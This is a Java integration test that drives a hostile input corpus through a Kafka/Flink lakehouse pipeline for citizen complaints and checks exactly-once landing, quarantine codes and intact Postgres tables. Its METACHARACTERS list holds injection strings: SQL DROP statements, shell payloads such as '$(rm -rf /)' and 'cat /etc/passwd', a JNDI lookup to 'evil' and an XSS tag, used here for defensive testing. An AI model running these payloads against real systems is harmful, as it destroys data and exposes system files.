package co.pqr.lakehouse.it;

import static org.assertj.core.api.Assertions.assertThat;

import co.pqr.lakehouse.PipelineLauncher;
import co.pqr.lakehouse.io.JsonlInput;
import co.pqr.lakehouse.io.KafkaInput;
import co.pqr.lakehouse.local.EmbeddedKafka;
import com.fasterxml.jackson.databind.ObjectMapper;
import com.fasterxml.jackson.databind.node.ObjectNode;
import java.io.OutputStream;
import java.nio.charset.StandardCharsets;
import java.nio.file.Files;
import java.nio.file.Path;
import java.sql.Connection;
import java.sql.PreparedStatement;
import java.sql.ResultSet;
import java.sql.Statement;
import java.util.ArrayList;
import java.util.Arrays;
import java.util.HashMap;
import java.util.List;
import java.util.Map;
import java.util.Properties;
import java.util.concurrent.Future;
import org.apache.flink.api.common.JobID;
import org.apache.flink.api.common.JobStatus;
import org.apache.flink.configuration.Configuration;
import org.apache.flink.configuration.CoreOptions;
import org.apache.flink.configuration.RestartStrategyOptions;
import org.apache.flink.core.execution.JobClient;
import org.apache.flink.runtime.executiongraph.AccessExecutionVertex;
import org.apache.flink.runtime.executiongraph.ArchivedExecutionGraph;
import org.apache.flink.runtime.minicluster.MiniCluster;
import org.apache.flink.runtime.minicluster.MiniClusterConfiguration;
import org.apache.flink.streaming.api.environment.StreamExecutionEnvironment;
import org.apache.flink.streaming.util.TestStreamEnvironment;
import org.apache.iceberg.data.Record;
import org.apache.kafka.clients.producer.KafkaProducer;
import org.apache.kafka.clients.producer.ProducerConfig;
import org.apache.kafka.clients.producer.ProducerRecord;
import org.apache.kafka.clients.producer.RecordMetadata;
import org.apache.kafka.common.serialization.ByteArraySerializer;
import org.junit.jupiter.api.AfterAll;
import org.junit.jupiter.api.BeforeAll;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;

/**
 * A hostile corpus through the real pipeline, once from Kafka (stream mode over a bounded range) and once from a
 * JSONL file (backfill): truncated JSON, wrong types, invalid UTF-8, a 5 MB payload, missing or invalid tenants,
 * unknown enum values, dates in the year 9999 and before 2000, 21,000 redeliveries, JSON nested 10,000 and 100,000
 * levels deep, and SQL/shell metacharacters, NUL escapes and emoji in every string field. Each record knows what
 * the contract makes of it (valid, or the quarantine reason code), written here from the contract, not asked of
 * the pipeline.
 *
 * <p>Pass criteria, exact: no task of either job ever ran a second attempt (read from the archived execution graph
 * of a MiniCluster the test owns, and shown able to see a restart by a control job); Bronze + quarantine hold each
 * input record exactly once, at its source coordinates, with its original bytes; every quarantine row carries the
 * expected reason code and a reason; Gold equals {@link GoldOracle} over the valid subset; the Postgres tables are
 * all still there and the metacharacter filing numbers sit in Gold verbatim. Runtime about 60-90 s.
 */
class HostileInputIT {
  private static final ObjectMapper JSON = new ObjectMapper();
  private static final String TENANT = "hostile-tenant";
  private static final int DUPLICATE_COPIES = 7_000;
  private static final int BIG_PAYLOAD_BYTES = 5 * 1024 * 1024;
  /** Free text of every kind a client could send, including a JSON NUL escape and emoji. */
  static final List<String> METACHARACTERS = List.of(
      "'; DROP TABLE gold.pqr_case; --",
      "\"; DROP SCHEMA control CASCADE; --",
      "$(rm -rf /)",
      "`shutdown -h now`",
      "| cat /etc/passwd && echo ${HOME} > /tmp/x",
      "\\'\\\"\\\\ %s %n %x {} ${jndi:ldap://evil/x}",
      "nul\u0000byte",
      "line\r\nbreak\ttab\u007f\u001b[31m",
      "emoji 😀🇨🇴 ñandú Ω ≠ \uD83D\uDCA9",
      "<script>alert('x')</script>");

  private static EmbeddedKafka kafka;
  private static MiniCluster flink;

  @TempDir Path dir;

  /** One input record and what the contract makes of it: null = valid, "?" = invalid (generated), else the code. */
  record Hostile(String key, byte[] value, String expectedCode) {
    boolean valid() {
      return expectedCode == null;
    }
  }

  @BeforeAll
  static void start() throws Exception {
    kafka = SharedKafka.broker();
    Configuration conf = new Configuration();
    conf.set(CoreOptions.CHECK_LEAKED_CLASSLOADER, false);
    flink = new MiniCluster(new MiniClusterConfiguration.Builder().setConfiguration(conf)
        .setNumTaskManagers(1).setNumSlotsPerTaskManager(4).build());
    flink.start();
  }

  @AfterAll
  static void stop() throws Exception {
    if (flink != null) {
      flink.close();
    }
  }

  @Test
  void restartDetectorSeesARestart() throws Exception {
    FailOnce.failed = false;
    Configuration conf = new Configuration();
    conf.set(RestartStrategyOptions.RESTART_STRATEGY, "fixed-delay");
    conf.set(RestartStrategyOptions.RESTART_STRATEGY_FIXED_DELAY_ATTEMPTS, 3);
    conf.set(RestartStrategyOptions.RESTART_STRATEGY_FIXED_DELAY_DELAY, java.time.Duration.ofMillis(100));
    StreamExecutionEnvironment env = environment(conf);
    env.fromData(1, 2, 3).map(new FailOnce()).sinkTo(new org.apache.flink.streaming.api.functions.sink.v2.DiscardingSink<>());
    JobClient job = env.executeAsync("fails once");
    job.getJobExecutionResult().get();
    assertThat(restarts(job.getJobID())).isPositive();
  }

  @Test
  void hostileCorpusFromKafkaLandsExactlyOnceWithoutARestart() throws Exception {
    List<Hostile> corpus = corpus(true);
    String topic = "it-hostile";
    kafka.createTopic(topic, 2);
    Map<String, Hostile> byCoordinate = produce(topic, corpus);
    try (TestLakehouse lake = new TestLakehouse(dir.resolve("kafka"), kafka.bootstrapServers(), topic)) {
      List<String> tablesBefore = tables(lake);
      JobClient job = PipelineLauncher.launch(environment(PipelineLauncher.flinkConfiguration(lake.settings, true, false)),
          lake.settings, KafkaInput.range(kafka.bootstrapServers(), topic, "it-hostile", "earliest", "latest"), "stream",
          TestLakehouse.KEY).client();
      job.getJobExecutionResult().get();
      assertThat(restarts(job.getJobID())).as("task attempts after the first").isZero();
      assertLanding(lake, corpus, byCoordinate, topic);
      assertGoldAndTables(lake, corpus, tablesBefore);
    }
  }

  @Test
  void hostileCorpusFromAJsonlFileLandsExactlyOnceWithoutARestart() throws Exception {
    List<Hostile> corpus = corpus(false);
    Path file = dir.resolve("hostile.jsonl");
    Map<String, Hostile> byCoordinate = new HashMap<>();
    try (OutputStream out = Files.newOutputStream(file)) {
      long line = 0;
      for (Hostile h : corpus) {
        out.write(h.value());
        out.write('\n');
        byCoordinate.put("0/" + line++, h);
      }
    }
    try (TestLakehouse lake = new TestLakehouse(dir.resolve("jsonl"), kafka.bootstrapServers(), "unused")) {
      List<String> tablesBefore = tables(lake);
      JobClient job = PipelineLauncher.launch(environment(PipelineLauncher.flinkConfiguration(lake.settings, false, false)),
          lake.settings, new JsonlInput(file), "backfill", TestLakehouse.KEY).client();
      job.getJobExecutionResult().get();
      assertThat(restarts(job.getJobID())).as("task attempts after the first").isZero();
      assertLanding(lake, corpus, byCoordinate, "file:hostile.jsonl");
      assertGoldAndTables(lake, corpus, tablesBefore);
    }
  }

  // ---- the corpus ---------------------------------------------------------------------------------------------

  /** The hostile records; {@code kafka}: also those a JSONL line cannot carry (no value, zero bytes). */
  static List<Hostile> corpus(boolean kafka) throws Exception {
    List<Hostile> out = new ArrayList<>();
    for (Fixtures.In in : Fixtures.edgeCases()) {
      out.add(new Hostile(in.key(), in.value(), in.valid() ? null : "?"));
    }
    for (Fixtures.In in : Fixtures.generated(99, 40)) {
      out.add(new Hostile(in.key(), in.value(), in.valid() ? null : "?"));
    }
    int n = 0;
    ObjectNode base = filing("H-BASE", ++n);
    String baseText = base.toString();
    out.add(valid(base));
    out.add(valid(answer("H-BASE", ++n, "2026-10-20T10:00:00Z")));

    // truncated JSON
    for (int cut : new int[] {1, baseText.length() / 3, baseText.length() / 2, baseText.length() - 1}) {
      out.add(invalid(baseText.substring(0, cut), "NOT_JSON"));
    }
    out.add(invalid("{\"schema_version\": 1, \"event_id\": ", "NOT_JSON"));
    out.add(invalid(baseText + baseText, "NOT_JSON"));
    out.add(invalid("\uFEFF" + baseText, "NOT_JSON"));
    out.add(invalid("[" + baseText + "]", "NOT_JSON"));
    out.add(invalid("null", "NOT_JSON"));

    // wrong types
    out.add(invalid(filing("H-T1", ++n).put("schema_version", "1"), "SCHEMA"));
    out.add(invalid(filing("H-T2", ++n).put("event_time", 1_790_000_000L), "SCHEMA"));
    out.add(invalid(filing("H-T3", ++n).put("tenant_id", 42), "SCHEMA"));
    out.add(invalid(filing("H-T4", ++n).put("pqr_id", 1234), "SCHEMA"));
    out.add(invalid(filing("H-T5", ++n).put("citizen", "Juan"), "SCHEMA"));
    out.add(invalid(filing("H-T6", ++n).put("subject", 5), "SCHEMA"));
    ObjectNode arrayLocation = filing("H-T7", ++n);
    arrayLocation.putArray("location").add("05001");
    out.add(invalid(arrayLocation, "SCHEMA"));
    out.add(invalid(filing("H-T8", ++n).put("pqr_id", ""), "SCHEMA"));
    out.add(invalid(filing("H-T9", ++n).put("pqr_id", "X".repeat(65)), "SCHEMA"));
    out.add(invalid(filing("H-T10", ++n).put("schema_version", 3), "SCHEMA"));

    // invalid UTF-8 (no 0x0A byte: every record is also one JSONL line)
    byte[] head = baseText.substring(0, baseText.length() - 2).getBytes(StandardCharsets.UTF_8);
    for (byte[] bad : new byte[][] {{(byte) 0xFF}, {(byte) 0xC0, (byte) 0xAF}, {(byte) 0xED, (byte) 0xA0, (byte) 0x80},
        {(byte) 0xF4, (byte) 0x90, (byte) 0x80, (byte) 0x80}, {(byte) 0xE2, (byte) 0x82}}) {
      byte[] value = Arrays.copyOf(head, head.length + bad.length + 2);
      System.arraycopy(bad, 0, value, head.length, bad.length);
      value[value.length - 2] = '"';
      value[value.length - 1] = '}';
      out.add(new Hostile("H-UTF8", value, "NOT_UTF8"));
    }
    out.add(new Hostile("H-UTF8", new byte[] {'{', '"', 'a', '"', ':', '"', (byte) 0x80, '"', '}'}, "NOT_UTF8"));

    // a 5 MB record: the default --max-payload-bytes (1 MiB) quarantines it unparsed, with its bytes
    ObjectNode big = filing("H-BIG", ++n);
    big.put("description", "x".repeat(BIG_PAYLOAD_BYTES));
    out.add(invalid(big, "OVERSIZED"));

    // missing or invalid tenant_id
    ObjectNode noTenant = filing("H-NT", ++n);
    noTenant.remove("tenant_id");
    out.add(invalid(noTenant, "SCHEMA"));
    for (String tenant : new String[] {"", "UPPER", "t".repeat(33), "tenant with spaces", "../../etc", "ñandú"}) {
      out.add(invalid(filing("H-NT", ++n).put("tenant_id", tenant), "SCHEMA"));
    }
    out.add(invalid(filing("H-NT", ++n).putNull("tenant_id"), "SCHEMA"));

    // unknown enum values
    out.add(invalid(filing("H-E1", ++n).put("event_type", "BORRADA"), "SCHEMA"));
    out.add(invalid(filing("H-E2", ++n).put("channel", "FAX"), "SCHEMA"));
    out.add(invalid(filing("H-E3", ++n).put("pqr_type", "OTRO"), "SCHEMA"));
    out.add(invalid(filing("H-E4", ++n).put("event_type", "radicada"), "SCHEMA"));
    ObjectNode badDoc = filing("H-E5", ++n);
    ((ObjectNode) badDoc.get("citizen")).put("document_type", "XX");
    out.add(invalid(badDoc, "SCHEMA"));

    // dates out of the contract's range: they must not move the backlog's as-of date
    out.add(invalid(filing("H-D1", ++n).put("event_time", "9999-12-31T23:59:59Z"), "EVENT_TIME_RANGE"));
    out.add(invalid(answer("H-BASE", ++n, "9999-01-01T00:00:00Z"), "EVENT_TIME_RANGE"));
    out.add(invalid(filing("H-D2", ++n).put("event_time", "1999-12-31T23:59:59Z"), "EVENT_TIME_RANGE"));
    out.add(invalid(filing("H-D3", ++n).put("event_time", "1970-01-01T00:00:00Z"), "EVENT_TIME_RANGE"));

    // deep nesting: must not overflow the parser's stack
    out.add(invalid("{\"a\":".repeat(10_000) + "1" + "}".repeat(10_000), "NOT_JSON"));
    out.add(invalid("[".repeat(100_000) + "]".repeat(100_000), "NOT_JSON"));
    String nestedExtra = baseText.substring(0, baseText.length() - 1) + ",\"extra\":"
        + "[".repeat(10_000) + "]".repeat(10_000) + "}";
    out.add(invalid(nestedExtra, "NOT_JSON"));

    // metacharacters in every string field
    int m = 0;
    for (String meta : METACHARACTERS) {
      m++;
      String pqrId = "M-" + m + "-" + meta;
      ObjectNode e = filing(pqrId, ++n);
      e.put("subject", meta).put("description", meta).put("assignee", meta).put(meta, meta);
      ObjectNode citizen = (ObjectNode) e.get("citizen");
      citizen.put("document_number", meta).put("name", meta).put("email", meta).put("phone", meta);
      e.putObject("location").put("dane_code", "05001").put("department", meta).put("city", meta);
      // Postgres text cannot hold a control character such as NUL: the contract refuses them in pqr_id.
      boolean control = meta.chars().anyMatch(c -> c < 0x20 || c == 0x7f);
      out.add(control ? invalid(e, "SCHEMA") : valid(e));
      ObjectNode reply = answer(pqrId, ++n, "2026-10-21T10:00:00Z").put("response", meta);
      out.add(control ? invalid(reply, "SCHEMA") : valid(reply));
      for (String field : new String[] {"event_id", "event_type", "event_time", "tenant_id", "channel", "pqr_type"}) {
        out.add(invalid(filing("M-F-" + field, ++n).put(field, meta), "SCHEMA"));
      }
      ObjectNode docType = filing("M-F-doc", ++n);
      ((ObjectNode) docType.get("citizen")).put("document_type", meta);
      out.add(invalid(docType, "SCHEMA"));
      ObjectNode dane = filing("M-F-dane", ++n);
      dane.putObject("location").put("dane_code", meta);
      out.add(invalid(dane, "SCHEMA"));
    }

    if (kafka) {
      out.add(new Hostile("H-NULL", null, "EMPTY"));
      out.add(new Hostile("H-EMPTY", new byte[0], "EMPTY"));
    }

    // a huge number of redeliveries of a few events
    List<Hostile> copied = List.of(valid(filing("H-DUP-1", ++n)), valid(filing("H-DUP-2", ++n)),
        valid(answer("H-DUP-1", ++n, "2026-10-22T10:00:00Z")));
    for (int i = 0; i < DUPLICATE_COPIES; i++) {
      out.addAll(copied);
    }
    for (Hostile h : out) {
      if (h.value() != null) {
        for (byte b : h.value()) {
          assertThat(b).as("no record may contain a raw line break").isNotEqualTo((byte) '\n');
        }
      }
    }
    return out;
  }

  private static ObjectNode filing(String pqrId, int n) {
    ObjectNode e = event(pqrId, n, "RADICADA", "2026-10-01T09:00:00-05:00");
    e.put("channel", "WEB").put("pqr_type", "QUEJA").put("subject", "Corte de agua").put("description", "Sin agua");
    e.putObject("citizen").put("document_type", "CC").put("document_number", "1036123456").put("name", "Ana Ruiz");
    return e;
  }

  private static ObjectNode answer(String pqrId, int n, String time) {
    return event(pqrId, n, "RESPONDIDA", time).put("response", "Respuesta");
  }

  private static ObjectNode event(String pqrId, int n, String type, String time) {
    ObjectNode e = JSON.createObjectNode();
    e.put("schema_version", 1);
    e.put("event_id", String.format("7a3e0000-0000-4000-9000-%012d", n));
    e.put("event_type", type);
    e.put("event_time", time);
    e.put("pqr_id", pqrId);
    e.put("tenant_id", TENANT);
    return e;
  }

  private static Hostile valid(ObjectNode e) {
    return new Hostile(e.path("pqr_id").asText(), e.toString().getBytes(StandardCharsets.UTF_8), null);
  }

  private static Hostile invalid(ObjectNode e, String code) {
    return new Hostile(e.path("pqr_id").asText(), e.toString().getBytes(StandardCharsets.UTF_8), code);
  }

  private static Hostile invalid(String text, String code) {
    return new Hostile(null, text.getBytes(StandardCharsets.UTF_8), code);
  }

  // ---- running ------------------------------------------------------------------------------------------------

  private static StreamExecutionEnvironment environment(Configuration conf) {
    TestStreamEnvironment env = new TestStreamEnvironment(flink, conf, 2, List.of(), List.of());
    env.configure(conf);
    return env;
  }

  /** Task attempts beyond the first over the whole job, from the MiniCluster's archive of the finished job. */
  private static long restarts(JobID id) throws Exception {
    ArchivedExecutionGraph graph = flink.getArchivedExecutionGraph(id).get();
    assertThat(graph.getState()).isEqualTo(JobStatus.FINISHED);
    long attempts = 0;
    for (AccessExecutionVertex v : graph.getAllExecutionVertices()) {
      attempts += v.getCurrentExecutionAttempt().getAttemptNumber();
    }
    return attempts + (graph.getStatusTimestamp(JobStatus.RESTARTING) > 0 ? 1 : 0);
  }

  /** Sends the corpus (with a request size that admits the 5 MB record); returns each record by partition/offset. */
  private static Map<String, Hostile> produce(String topic, List<Hostile> corpus) throws Exception {
    Properties p = Produce.producerProperties(kafka.bootstrapServers());
    p.put(ProducerConfig.MAX_REQUEST_SIZE_CONFIG, 8 * 1024 * 1024);
    p.put(ProducerConfig.BUFFER_MEMORY_CONFIG, 64L * 1024 * 1024);
    Map<String, Hostile> out = new HashMap<>();
    try (KafkaProducer<byte[], byte[]> producer =
        new KafkaProducer<>(p, new ByteArraySerializer(), new ByteArraySerializer())) {
      List<Future<RecordMetadata>> acks = new ArrayList<>();
      for (Hostile h : corpus) {
        acks.add(producer.send(new ProducerRecord<>(topic,
            h.key() == null ? null : h.key().getBytes(StandardCharsets.UTF_8), h.value())));
      }
      producer.flush();
      for (int i = 0; i < corpus.size(); i++) {
        RecordMetadata md = acks.get(i).get();
        out.put(md.partition() + "/" + md.offset(), corpus.get(i));
      }
    }
    assertThat(out).hasSize(corpus.size());
    return out;
  }

  // ---- checks -------------------------------------------------------------------------------------------------

  private static void assertLanding(TestLakehouse lake, List<Hostile> corpus, Map<String, Hostile> byCoordinate,
      String sourceTopic) throws Exception {
    List<Record> bronze = lake.bronze();
    List<Record> quarantine = lake.quarantine();
    long valid = corpus.stream().filter(Hostile::valid).count();
    assertThat(bronze).hasSize((int) valid);
    assertThat(quarantine).hasSize(corpus.size() - (int) valid);

    Map<String, Integer> seen = new HashMap<>();
    for (Record r : bronze) {
      String at = r.getField("source_partition") + "/" + r.getField("source_offset");
      assertThat(seen.merge(at, 1, Integer::sum)).as("Bronze row at " + at + " once").isEqualTo(1);
      assertThat(r.getField("source_topic")).isEqualTo(sourceTopic);
      Hostile h = byCoordinate.get(at);
      assertThat(h).as("Bronze row at " + at + " was sent there").isNotNull();
      assertThat(h.valid()).as("Bronze row at " + at).isTrue();
      assertThat(bytes(r.getField("payload"))).isEqualTo(h.value());
    }
    for (Record r : quarantine) {
      String at = r.getField("source_partition") + "/" + r.getField("source_offset");
      assertThat(seen.merge(at, 1, Integer::sum)).as("quarantine row at " + at + " once").isEqualTo(1);
      assertThat(r.getField("source_topic")).isEqualTo(sourceTopic);
      Hostile h = byCoordinate.get(at);
      assertThat(h).as("quarantine row at " + at + " was sent there").isNotNull();
      assertThat(h.valid()).as("quarantine row at " + at).isFalse();
      assertThat(bytes(r.getField("payload"))).as("original bytes at " + at)
          .isEqualTo(h.value() == null ? new byte[0] : h.value());
      assertThat((String) r.getField("reason")).as("reason at " + at).isNotBlank();
      if (!h.expectedCode().equals("?")) {
        assertThat(r.getField("reason_code")).as("reason code at " + at + ": " + r.getField("reason"))
            .isEqualTo(h.expectedCode());
      }
    }
    assertThat(seen).hasSize(corpus.size());
    assertThat(quarantine.stream().filter(r -> "OVERSIZED".equals(r.getField("reason_code"))))
        .singleElement().satisfies(r -> {
          int size = bytes(r.getField("payload")).length;
          assertThat(size).isGreaterThan(BIG_PAYLOAD_BYTES);
          assertThat(r.getField("reason")).isEqualTo("the record value is " + size
              + " bytes, more than the maximum of 1048576 bytes; it was not parsed");
        });
  }

  private static void assertGoldAndTables(TestLakehouse lake, List<Hostile> corpus, List<String> tablesBefore)
      throws Exception {
    List<byte[]> validPayloads = corpus.stream().filter(Hostile::valid).map(Hostile::value).toList();
    PipelineIT.assertGoldEquals(lake, validPayloads);
    assertThat(tables(lake)).isEqualTo(tablesBefore);
    try (Connection c = lake.connect();
        PreparedStatement exact = c.prepareStatement("SELECT count(*) FROM gold.pqr_case WHERE tenant_id = ? AND pqr_id = ?");
        PreparedStatement prefix = c.prepareStatement("SELECT count(*) FROM gold.pqr_case WHERE tenant_id = ? AND pqr_id LIKE ?")) {
      int m = 0;
      for (String meta : METACHARACTERS) {
        m++;
        // a filing number with a control character was quarantined (Postgres could not even take it as a
        // parameter): no case with its prefix exists; every other one is in Gold verbatim
        boolean control = meta.chars().anyMatch(ch -> ch < 0x20 || ch == 0x7f);
        PreparedStatement ps = control ? prefix : exact;
        ps.setString(1, TENANT);
        ps.setString(2, control ? "M-" + m + "-%" : "M-" + m + "-" + meta);
        try (ResultSet rs = ps.executeQuery()) {
          rs.next();
          assertThat(rs.getLong(1)).as("case " + meta).isEqualTo(control ? 0 : 1);
        }
      }
      try (Statement st = c.createStatement();
          ResultSet rs = st.executeQuery("SELECT as_of_date FROM gold.pqr_backlog WHERE tenant_id = '" + TENANT + "'")) {
        assertThat(rs.next()).isTrue();
        assertThat(rs.getObject(1, java.time.LocalDate.class)).isBefore(java.time.LocalDate.of(2027, 1, 1));
      }
    }
  }

  /** Every table and column of the Postgres side, to show nothing was dropped or altered. */
  private static List<String> tables(TestLakehouse lake) throws Exception {
    List<String> out = new ArrayList<>();
    try (Connection c = lake.connect(); Statement st = c.createStatement();
        ResultSet rs = st.executeQuery("SELECT table_schema || '.' || table_name || '.' || column_name"
            + " FROM information_schema.columns WHERE table_schema IN ('gold', 'control', 'iceberg')"
            + " ORDER BY 1")) {
      while (rs.next()) {
        out.add(rs.getString(1));
      }
    }
    assertThat(out).contains("gold.pqr_case.pqr_id", "control.runs.run_id");
    return out;
  }

  private static byte[] bytes(Object field) {
    java.nio.ByteBuffer b = ((java.nio.ByteBuffer) field).duplicate();
    byte[] out = new byte[b.remaining()];
    b.get(out);
    return out;
  }

  /** Fails its first attempt once: the control that shows {@link #restarts} sees a restart. */
  static final class FailOnce implements org.apache.flink.api.common.functions.MapFunction<Integer, Integer> {
    static volatile boolean failed;

    @Override
    public Integer map(Integer value) {
      if (!failed) {
        failed = true;
        throw new IllegalStateException("planned failure of the restart detector's control job");
      }
      return value;
    }
  }

}
